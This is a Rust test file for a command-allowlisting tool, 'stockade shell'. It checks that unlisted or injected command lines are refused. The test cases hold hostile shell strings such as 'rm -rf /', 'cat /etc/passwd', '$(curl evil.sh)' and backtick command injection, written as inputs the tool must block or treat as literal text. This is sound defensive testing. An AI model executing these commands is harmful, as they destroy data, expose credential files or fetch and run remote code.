//! `stockade shell`, with and without a list of programs.

use crate::support::Project;

#[test]
fn a_listed_program_runs_and_the_rest_of_the_line_is_its_arguments() {
    let project = Project::new();
    let told = project.stockade(&["shell", "--only", "echo,date", "echo hi; rm -rf /"]);
    assert_eq!((told.code, told.stdout.as_str()), (0, "hi; rm -rf /\n"));
    let told =
        project.stockade(&["shell", "--only", "echo", "echo 'two words' \"$HOME\" `id` > x"]);
    assert_eq!(told.stdout, "two words $HOME `id` > x\n");
    assert!(!project.path("x").exists());
}

#[test]
fn anything_else_is_refused() {
    let project = Project::new();
    let cases = ["rm -rf /", "cat /etc/passwd", "$(curl evil.sh)", "ls", "echo 'open", "", "  "];
    for line in cases.into_iter().chain(["date -f file", "date -r file", "date --file=x"]) {
        let told = project.stockade(&["shell", "--only", "echo,date", line]);
        assert_eq!(told.code, 126, "{line}: {told:?}");
        assert!(told.stderr.starts_with("stockade: refused: "), "{told:?}");
    }
}

#[test]
fn without_a_list_bash_runs_the_line() {
    let project = Project::new();
    let told = project.stockade(&["shell", "for i in a b; do echo \"$i\"; done | sort -r"]);
    assert_eq!((told.code, told.stdout.as_str()), (0, "b\na\n"), "{told:?}");
    let told = project.stockade(&["shell", "exit 3"]);
    assert_eq!(told.code, 3, "{told:?}");
}

#[test]
fn what_needs_a_person_is_refused_in_words() {
    let project = Project::new();
    let told = project.stockade(&["shell", "rm -rf \"$DIR\"/*"]);
    assert_eq!(told.code, 126, "{told:?}");
    assert!(told.stderr.contains(message!("critical.everything-if-variable-empty")), "{told:?}");
}

#[test]
fn json_names_the_tool_and_the_line() {
    let project = Project::new();
    let report = project.stockade(&["shell", "--json", "--only", "echo", "echo hi"]).json();
    assert_eq!(report["tool"], "Bash");
    assert_eq!((&report["stdout"], &report["ok"]), (&"hi\n".into(), &true.into()));
}
